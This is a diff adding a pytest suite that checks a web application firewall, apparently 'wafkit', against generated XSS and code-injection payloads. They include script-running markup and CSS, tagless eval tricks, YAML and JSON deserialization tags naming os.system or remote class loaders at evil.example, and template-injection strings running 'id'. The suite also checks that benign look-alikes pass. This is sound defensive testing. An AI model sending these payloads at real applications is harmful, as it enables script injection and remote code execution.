@@ -1,0 +1,281 @@
+"""WAF, XSS and code injection by grammar (issue 11): markup a browser
+parses as an element (namespaced too), attributes and CSS that run script,
+script without tags, template expressions that compute or reach objects,
+serialization type tags that name a class. Each class is generated from
+the languages' vocabularies (element names, namespace prefixes, CSS
+properties and their escapes, template delimiters, YAML tag forms) and
+sent through a real edge (shipped config, bans off) as a JSON note field
+and as a query value; benign look-alikes (markdown, type annotations,
+placeholders in usage lines, code snippets, URLs, stack traces) must pass
+in both."""
+import itertools
+import urllib.parse
+
+import pytest
+import requests
+
+from wafkit import WafEdge, waf_config
+
+CONF = waf_config()
+
+
+HEX = set("0123456789abcdefABCDEF")
+
+
+def css_escape_each(s):
+    """Each letter that is not a hex digit, and each dash, as a CSS escape
+    of itself (\\-\\mo\\z...): a hex digit after a backslash would start a
+    code point."""
+    return "".join("\\" + c if (c.isalpha() and c not in HEX) or c == "-" else c
+                   for c in s)
+
+
+def css_nul(s):
+    """A CSS NUL escape before every character that is not a hex digit
+    (-m\\0o\\0z...): old parsers dropped it."""
+    return "".join("\\0" + c if c not in HEX and i else c for i, c in enumerate(s))
+
+
+def css_hex(s):
+    """Letters as hexadecimal CSS escapes followed by a space (\\6d ...)."""
+    return "".join(f"\\{ord(c):x} " if c.isalpha() else c for c in s)
+
+
+def css_comments(s):
+    """A comment inside the word (expr/**/ession)."""
+    return s[:len(s) // 2] + "/**/" + s[len(s) // 2:]
+
+
+# -- XSS -----------------------------------------------------------------------
+
+NAMESPACES = ["svg", "html", "xhtml", "x", "xsl", "math"]
+SCRIPTY = ["script", "iframe", "svg", "object", "embed"]
+NAMESPACED = [f"<{ns}:{el}>alert(1)</{ns}:{el}>" if el == "script"
+              else f"<{ns}:{el} onload=alert(1)>"
+              for ns, el in itertools.product(NAMESPACES, SCRIPTY)]
+NAMESPACED += [f"<{ns}:svg>" for ns in ("svg", "html", "xhtml")]
+
+CSS_RUNS = [
+    ("-moz-binding", "url(//evil.example/x.xml#x)"),
+    ("binding", "url(http://evil.example/x.xml#x)"),
+    ("behavior", "url(/x.htc)"),
+    ("width", "expression(alert(1))"),
+]
+CSS_ENCODINGS = [lambda s: s, css_escape_each, css_nul, css_hex]
+CSS = []
+for (prop, val), enc in itertools.product(CSS_RUNS, CSS_ENCODINGS):
+    decl = enc(prop) + ":" + (enc(val.split("(")[0]) + "(" + val.split("(", 1)[1]
+                              if enc is not css_nul else enc(val))
+    CSS.append(f'<div style="{decl}">x</div>')
+    CSS.append(f'x" style="{decl}')
+CSS += [f'<div style="width: {css_comments("expression")}(alert(1))">',
+        '<p style=x:expression\\28 alert(1)\\29>']
+
+DATA_BINDING = [
+    f'<xml id="{i}" src="/d.xml"></xml><{el} {a}="#{i}" datafld="p" '
+    f'dataformatas="html"></{el}>'
+    for i, el, a in [("x", "span", "datasrc"), ("d1", "label", "datasrc"),
+                     ("q", "div", "datasrc")]
+] + ['<span datasrc="#x" datafld="p" dataformatas="html">',
+     '<xml src="//evil.example/x.xml" id="i"></xml>']
+
+ENTRY_POINTS = ["eval", "alert", "setTimeout", "Function", "prompt"]
+TAGLESS = (
+    [f"{f}.call(this,unescape.call(this,location.hash))" for f in ENTRY_POINTS]
+    + [f"{f}.apply(null,[name])" for f in ENTRY_POINTS]
+    + [f"a={g};b=name;a(b)" for g in ("eval",)]
+    + [f"x={g},y=location.hash,x(y.slice(1))" for g in ("eval",)]
+    + [f"{n}[{a}+{b}]({c})" for n, a, b, c in
+       [("1", "__", "_", "_+___"), ("7", "x", "y", "z"), ("top", "a", "b", "c")]]
+    + [f"{n}[{k}]({arg})" for n, k, arg in [("1", "a", "b"), ("42", "ev", "code")]]
+    + [f"{f}`1`" for f in ENTRY_POINTS]
+    + [f"{obj}.{m}`{x}`" for obj, m, x in
+       [("x", "call", "1"), ("document", "write", "<b>"), ("[ ] . sort ", "call", "${alert}")]]
+    + ["with(document)body.appendChild(createElement('script')).src='//evil.example'",
+       "with(window)eval(name)"]
+)
+
+XSS_CLASSES = {
+    "namespaced": NAMESPACED,
+    "css": CSS,
+    "data-binding": DATA_BINDING,
+    "tagless": TAGLESS,
+}
+
+# -- code injection ------------------------------------------------------------
+
+YAML_TAGS = (
+    [f"{bang}python/{kind}:{target}" for bang, kind, target in itertools.product(
+        ("!!", "!"), ("object/apply", "object/new", "name", "module"),
+        ("os.system", "subprocess.Popen"))]
+    + [f"{bang}ruby/{kind}:{cls}" for bang, kind, cls in itertools.product(
+        ("!", "!!"), ("object", "hash", "struct"),
+        ("Gem::Installer", "Gem::Requirement"))]
+    + [f"- !!{cls} [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]"
+       for cls in ("javax.script.ScriptEngineManager", "com.sun.rowset.JdbcRowSetImpl")]
+    + [f"!<tag:yaml.org,2002:{lang}/object/apply:os.system> [id]" for lang in ("python",)]
+    + [f"key: !!{cls}\n  prop: 1" for cls in ("org.example.Gadget",
+                                               "net.bytebuddy.Thing.Other")]
+    + ['{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}']
+)
+
+COMPUTE = ["7*7", "191*7", "7*'7'"]
+REACH = ["''.__class__.__mro__", "request.getClass()", "self.__init__.__globals__",
+         "config.items()"]
+DELIMS = [("{{", "}}"), ("${", "}"), ("#{", "}"), ("*{", "}"), ("~{", "}"),
+          ("@(", ")"), ("<%= ", " %>"), ("[[${", "}]]")]
+TEMPLATES = [o + e + c for (o, c), e in itertools.product(DELIMS, COMPUTE[:2])]
+TEMPLATES += [o + e + c for (o, c), e in itertools.product(
+    [("{{", "}}"), ("${", "}"), ("#{", "}"), ("*{", "}")], REACH)]
+TEMPLATES += ["{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}",
+              "{% import os %}{{ os.popen('id').read() }}",
+              '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
+              '#set($x = $e.getClass().forName("java.lang.Runtime"))']
+
+TYPE_KEYS = ["__class", "__className", "json_class", "__type", "py/object", "@class"]
+JSON_TYPE_HINTS = [f'{{"{k}": "{v}", "a": 1}}' for k, v in itertools.product(
+    TYPE_KEYS, ["Foo", "subprocess.Popen"])]
+TEMPLATES += ["{{= it.x }}", "{{= Tnn96}}"]
+
+CODE_CLASSES = {"yaml-type-tag": YAML_TAGS, "template": TEMPLATES,
+                "json-type-hint": JSON_TYPE_HINTS}
+
+# -- benign look-alikes ---------------------------------------------------------
+
+FILES = ["config.yaml", "setup.cfg", "docs/readme.md", ".env.example", "Makefile"]
+COMMANDS = ["go test", "make deps", "cargo build --release",
+            "pip install -r requirements.txt", "kubectl get pods -n staging"]
+MARKDOWN = (
+    [f"Use `{c}` to update, then check `{f}`." for c, f in zip(COMMANDS, FILES)]
+    + [f"- [x] write tests\n- [ ] tag release\n- [ ] review `{f}`" for f in FILES]
+    + [f"## Setup\n\n1. Run `{c}`\n2. Open `{f}`\n3. Done!" for c, f in zip(COMMANDS, FILES)]
+    + [f"Set `{k}={v}` in `{f}` and reload." for k, v, f in
+       [("WORKERS", 4, "setup.cfg"), ("timeout", 30, "config.yaml")]]
+    + ["**bold** and _it_ and [link](https://example.com/x) and ![img](/a.png)",
+       "```js\nconst x = a.b`tpl`;\n```\nThen restart.",
+       "Please call `support` or open `the ticket`.",
+       "Step 2 [docs](https://example.com/docs)"]
+)
+TYPES = ["@returns {Promise<Object>}", "Vec<String>", "Map<String, List<Object>>",
+         "Option<Box<dyn Error>>", "List<Map<Integer, Object>>",
+         "/**\n * Load it.\n * @param {string} id - the id\n * @returns {Promise<Object>}\n */",
+         "std::vector<int> v;", "Array<Form> forms"]
+PLACEHOLDERS = ["usage: cp <input> <output>", "git clone <link> <dir>",
+                "mytool --format <template> <file>", "send <title> and <form> fields",
+                "<name>: <value>", "<iframe> and <object> are HTML elements", "a < b > c",
+                "<svg> icons"]
+CODE = ["for (let i = 0; i < n; i++) { console.log(i); }",
+        "console.log('it\\'s done');",
+        "let user = await fetch(`/api/users/${id}`).then(r => r.json());",
+        "const url = `${base}/items/${id}`;",
+        "handlers[type](event)", "arr[i](x)", "x = y * 2; z = a + b",
+        "Hello {{name}}, order #{order_id} ships ${date}",
+        "Price: ${price} per item", "Dear {{ user.name }}", "{% endblock %}",
+        "!!str hello", "!!int 42", "wow!! this.is great", "value: !!binary aGVsbG8=",
+        "Caused by: java.lang.NullPointerException at com.example.Foo.bar(Foo.java:42)",
+        "at java.lang.Thread.run(Thread.java:748)",
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>1</id></order>",
+        "5 * {x} + 2", "email @ (work)", "file (used)", "{{=<% %>=}}",
+        '{"class": "economy", "type": "adult"}', '{"@type": "Person", "name": "Ann"}']
+URLS = ["https://github.com/nodejs/node/blob/main/lib/child_process.js",
+        "https://docs.example.com/java/lang/Runtime.html#exec(java.lang.String)",
+        "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
+        "https://example.com/docs/templates#{{name}}"]
+
+BENIGN_CLASSES = {"markdown": MARKDOWN, "types": TYPES, "placeholders": PLACEHOLDERS,
+                  "code": CODE, "urls": URLS}
+
+
+@pytest.fixture(scope="module")
+def edge(tmp_path_factory):
+    e = WafEdge(tmp_path_factory.mktemp("waf-xss-code"), CONF).start()
+    yield e
+    e.stop()
+
+
+@pytest.fixture(autouse=True)
+def no_lua_errors(edge):
+    yield
+    bad = edge.error_lines("error") + edge.error_lines("crit")
+    assert not bad, "\n".join(bad)
+
+
+def statuses(edge, value):
+    """(JSON note field, query value) statuses on the catch-all route."""
+    s = requests.Session()
+    j = s.post(edge.url + "/api/notes", json={"note": value}).status_code
+    q = s.get(edge.url + "/api/search?q=" + urllib.parse.quote(value, safe="")).status_code
+    return j, q
+
+
+def check_blocked(edge, values):
+    missed = []
+    for v in values:
+        j, q = statuses(edge, v)
+        if j != 403 or q != 403:
+            missed.append((v, j, q))
+    assert not missed, f"{len(missed)}/{len(values)} passed: {missed[:8]}"
+
+
+def check_passes(edge, values):
+    blocked = []
+    for v in values:
+        j, q = statuses(edge, v)
+        if j == 403 or q == 403:
+            blocked.append((v, j, q))
+    assert not blocked, f"{len(blocked)}/{len(values)} blocked: {blocked[:8]}"
+
+
+@pytest.mark.parametrize("cls", sorted(XSS_CLASSES))
+def test_xss_class_blocked(edge, cls):
+    check_blocked(edge, XSS_CLASSES[cls])
+
+
+@pytest.mark.parametrize("cls", sorted(CODE_CLASSES))
+def test_code_class_blocked(edge, cls):
+    check_blocked(edge, CODE_CLASSES[cls])
+
+
+@pytest.mark.parametrize("cls", sorted(BENIGN_CLASSES))
+def test_benign_look_alikes_pass(edge, cls):
+    check_passes(edge, BENIGN_CLASSES[cls])
+
+
+def test_type_hint_keys_of_a_json_body_blocked(edge):
+    missed = []
+    for k in TYPE_KEYS:
+        r = requests.post(edge.url + "/api/notes", json={"item": {k: "Foo", "n": 1}})
+        if r.status_code != 403:
+            missed.append((k, r.status_code))
+    r = requests.post(edge.url + "/api/notes",
+                      json={"@type": "Person", "class": "economy", "kind": "x"})
+    assert r.status_code != 403
+    assert not missed, missed
+
+
+def test_urls_in_referer_and_origin_pass(edge):
+    blocked = []
+    for u in URLS[:3]:
+        r = requests.get(edge.url + "/api/search?q=shoes",
+                         headers={"Referer": u, "Origin": "https://github.com"})
+        if r.status_code == 403:
+            blocked.append(u)
+    assert not blocked, blocked
+
+
+def test_markup_still_caught_next_to_its_look_alikes(edge):
+    """The bare-tag and backtick-pairing rules must not open holes: the
+    same shapes with script in them are blocked."""
+    check_blocked(edge, [
+        "Promise<script>alert(1)</script>",
+        "usage: cp <input autofocus onfocus=alert(1)> <output>",
+        "</title><img src=x onerror=alert(1)>",
+        "<iframe src=//evil.example></iframe>",
+        "<iframe></iframe>",
+        "<style>@import 'x';</style>",
+        "Use `x` then alert`1`",
+        "- [x] done\n- [ ] `a`eval`name`",
+        "<?xml-stylesheet type=\"text/xsl\" href=\"//evil.example/x.xsl\"?>",
+        "console.info(1)",
+        "child_process.exec('id')",
+    ])
